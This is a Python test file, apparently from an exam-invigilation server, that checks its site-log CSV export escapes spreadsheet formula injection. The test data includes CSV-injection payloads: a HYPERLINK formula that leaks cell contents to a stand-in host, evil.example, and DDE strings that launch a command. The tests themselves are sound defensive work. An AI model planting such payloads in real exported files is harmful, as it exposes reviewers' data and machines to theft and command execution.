"""The exam's site log (``site-log.csv`` in the export): no cell runs as a formula in a spreadsheet.

Hosts are checked on the way in, but URLs and reasons are the laptops' traffic and the policy's text; the
reviewer opens the file in Excel or LibreOffice (OWASP, "CSV Injection")."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest

from hall_server.review.reports.csvcells import FORMULA_STARTS, inert
from hall_server.review.reports.export import site_log_csv
from hall_server.store import db
from invigil.payloads import Enrolment, SiteEvent
from invigil.timeutil import utc_now

from reviewseed import FlaskHall, post_site_events

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: click for details")'


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),  # nothing else in the cell is changed
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),  # a leading tab or carriage return can hide the formula's start
        ("\r=1+1", "'\r=1+1"),
        (HYPERLINK, "'" + HYPERLINK),
        ("chat.example.com", "chat.example.com"),
        ("https://chat.example.com/?q=1+1", "https://chat.example.com/?q=1+1"),
        ("1-2", "1-2"),
        ("a=b", "a=b"),
        (" =1+1", " =1+1"),
        ("", ""),
        (None, None),
        (17, 17),  # numbers stay numbers (session ids)
    ],
)
def test_a_cell_that_starts_like_a_formula_is_shown_as_text(cell, shown):
    assert inert(cell) == shown


def test_site_log_cells_from_the_laptops_cannot_run(exam, client):
    FlaskHall(client, "10.0.0.7").enrol(
        Enrolment(exam.students[0], exam.join_code, "agent-csv-01", utc_now(), "0.1", "Linux")
    )
    now = utc_now()
    post_site_events(
        client,
        [
            SiteEvent(
                "px-csv-1", now, "10.0.0.7", "chat.example.com", "blocked", "proxy", HYPERLINK, "@SUM(1)"
            ),
            SiteEvent(
                "px-csv-2", now + timedelta(seconds=1), "10.0.0.7", "exam.example.org", "allowed", "proxy"
            ),
        ],
    )
    store = db.connect(exam.data_dir)
    try:
        rows = list(csv.DictReader(io.StringIO(site_log_csv(store, exam.exam_id).decode())))
    finally:
        store.close()
    assert [row["host"] for row in rows] == ["chat.example.com", "exam.example.org"]
    assert rows[0]["reason"] == "'" + HYPERLINK and rows[0]["url"] == "'@SUM(1)"
    assert rows[0]["student_number"] == exam.students[0]
    for row in rows:
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row.values())
